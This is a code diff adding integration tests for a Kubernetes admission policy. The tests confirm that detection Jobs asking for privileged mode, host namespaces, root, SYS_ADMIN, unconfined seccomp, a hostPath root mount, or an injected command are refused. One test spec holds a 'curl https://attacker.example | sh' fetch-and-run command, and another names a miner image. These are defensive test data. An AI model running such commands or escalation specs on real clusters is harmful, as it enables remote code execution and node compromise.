@@ -2,9 +2,10 @@ import { execFileSync } from "node:child_process";
 import { cpSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import { PatchStrategy, setHeaderOptions } from "@kubernetes/client-node";
 import { parseAllDocuments } from "yaml";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { GPU_JOBS, jobTemplateIn } from "../helpers/detection-queue.ts";
+import { GPU_JOBS, jobTemplateIn, kubeClients } from "../helpers/detection-queue.ts";
 import { parseJobTemplate } from "../../operator/detection-job-scaler.ts";
 import { type ControlPlane, kubeTools, startControlPlane } from "../helpers/kube-control-plane.ts";
 import { until } from "../helpers/webhook-receiver.ts";
@@ -392,8 +393,115 @@ describe("the Inspection CRD on a real API server", () => {
     expect((await asService(job({ containers: [{ ...container, image: "attacker/miner:latest" }] }))).stderr).toContain(
       "run vehicle-inspection",
     );
+    // Nothing with the node's access either, whatever Pod Security level the namespace enforces: each
+    // refused with what it breaks and why (the first rule it fails; securityContext as the values set it).
+    const refused = async (what: string, spec: Record<string, unknown>, message: string) => {
+      const r = await asService(job(spec));
+      expect(r.code, what).not.toBe(0);
+      expect(r.stderr, what).toContain(message);
+    };
+    const podSpec = template.spec!.template!.spec!;
+    const withContainer = (securityContext: Record<string, unknown>, more: Record<string, unknown> = {}) => ({
+      containers: [{ ...container, securityContext: { ...container.securityContext, ...securityContext }, ...more }],
+    });
+    const withPod = (securityContext: Record<string, unknown>) => ({ securityContext: { ...podSpec.securityContext, ...securityContext } });
+    // (The API server itself refuses privileged with allowPrivilegeEscalation false: that one left out.)
+    await refused(
+      "privileged",
+      withContainer({ privileged: true, allowPrivilegeEscalation: undefined }),
+      "detection Jobs' containers are privileged only as securityContext sets (privileged unset): a privileged container has the node",
+    );
+    const hostNamespaces =
+      "detection Jobs share none of the node's namespaces (hostNetwork, hostPID, hostIPC): they need no access to the node";
+    await refused("hostNetwork", { hostNetwork: true }, hostNamespaces);
+    await refused("hostPID", { hostPID: true }, hostNamespaces);
+    await refused(
+      "another command",
+      withContainer({}, { command: ["sh", "-c", "curl -s https://attacker.example | sh"] }),
+      "detection Jobs run the image's entrypoint with the args [inference] only: another command or args would run anything the image holds",
+    );
+    await refused(
+      "an init container",
+      { initContainers: [{ name: "setup", image: container.image, command: ["sh", "-c", "id"] }] },
+      "detection Jobs run one container, inference, and no init or ephemeral containers",
+    );
+    const asChartUser = "detection Jobs run as podSecurityContext's user (runAsNonRoot true, runAsUser 1000, runAsGroup 1000)";
+    await refused("runAsNonRoot false", withPod({ runAsNonRoot: false }), asChartUser);
+    await refused("a root runAsUser on the container", withContainer({ runAsUser: 0 }), asChartUser);
+    await refused(
+      "allowPrivilegeEscalation true",
+      withContainer({ allowPrivilegeEscalation: true }),
+      "detection Jobs' containers set allowPrivilegeEscalation as securityContext does (allowPrivilegeEscalation false)",
+    );
+    await refused(
+      "an added capability",
+      withContainer({ capabilities: { drop: ["ALL"], add: ["SYS_ADMIN"] } }),
+      "detection Jobs' containers have the capabilities securityContext sets (capabilities.drop [ALL]) and no other",
+    );
+    await refused(
+      "seccomp unconfined",
+      withPod({ seccompProfile: { type: "Unconfined" } }),
+      "detection Jobs keep the confinement podSecurityContext (seccompProfile.type RuntimeDefault) and securityContext (readOnlyRootFilesystem true) set",
+    );
+    await refused(
+      "a hostPath volume",
+      {
+        volumes: [{ name: "root", hostPath: { path: "/" } }],
+        ...withContainer({}, { volumeMounts: [{ name: "root", mountPath: "/host" }] }),
+      },
+      "detection Jobs mount scratch volumes (emptyDir) only",
+    );
     const rendered = await asService(job());
     expect(rendered.code, rendered.stderr).toBe(0);
+
+    // The service's own writes pass, as its client makes them: its create from the template (the
+    // scaler's), and its raise, a merge patch of parallelism, also on a Job an older release made with
+    // another image: an update that leaves the pod template as it was admitted is not checked again.
+    const config = JSON.parse(readFileSync(k.kubeconfig, "utf8"));
+    for (const u of config.users) u.user.as = "system:serviceaccount:vi-rbac:r-vehicle-inspection";
+    const impersonating = join(mkdtempSync(join(tmpdir(), "vi-as-")), "kubeconfig");
+    writeFileSync(impersonating, JSON.stringify(config));
+    const kube = kubeClients(impersonating, "vi-rbac");
+    const scaler = kube.scaler(template, async () => 2, { minParallelism: 0, maxParallelism: 4, inspectionsPerPod: 1 });
+    expect(await scaler.reconcile()).toEqual({ action: "create", parallelism: 2 });
+    const [made] = JSON.parse(await k.kubectl("get", "jobs", "-n", "vi-rbac", "-o", "json")).items;
+    const raise = (name: string) =>
+      kube.batch.patchNamespacedJob(
+        { name, namespace: "vi-rbac", body: { spec: { parallelism: 3 } } },
+        setHeaderOptions("Content-Type", PatchStrategy.MergePatch),
+      );
+    expect((await raise(made.metadata.name)).spec!.parallelism).toBe(3);
+    const older = {
+      ...template,
+      metadata: { name: "older", namespace: "vi-rbac", labels: template.metadata!.labels },
+      spec: {
+        ...template.spec,
+        suspend: true,
+        template: { ...template.spec!.template, spec: { ...podSpec, containers: [{ ...container, image: "vehicle-inspection:0.0.9" }] } },
+      },
+    };
+    const olderMade = await k.kubectlResult(["create", "-f", "-"], JSON.stringify(older));
+    expect(olderMade.code, olderMade.stderr).toBe(0);
+    expect((await raise("older")).spec!.parallelism).toBe(3);
+    // A change to its pod template is checked: that Job's image is not the chart's.
+    const retemplated = await k.kubectlResult(
+      [
+        "apply",
+        "--server-side",
+        "--force-conflicts",
+        "--dry-run=server",
+        "--as=system:serviceaccount:vi-rbac:r-vehicle-inspection",
+        "-f",
+        "-",
+      ],
+      JSON.stringify({
+        apiVersion: "batch/v1",
+        kind: "Job",
+        metadata: { name: "older", namespace: "vi-rbac" },
+        spec: { template: { spec: { nodeSelector: { "kubernetes.io/hostname": "chosen" } } } },
+      }),
+    );
+    expect(retemplated.stderr).toContain("detection Jobs run vehicle-inspection");
     // A person with the rights to do so is not held to it: the policy binds the service's account only.
     const admin = await k.kubectlResult(["create", "--dry-run=server", "-n", "vi-rbac", "-f", "-"], job({ serviceAccountName: "default" }));
     expect(admin.code, admin.stderr).toBe(0);
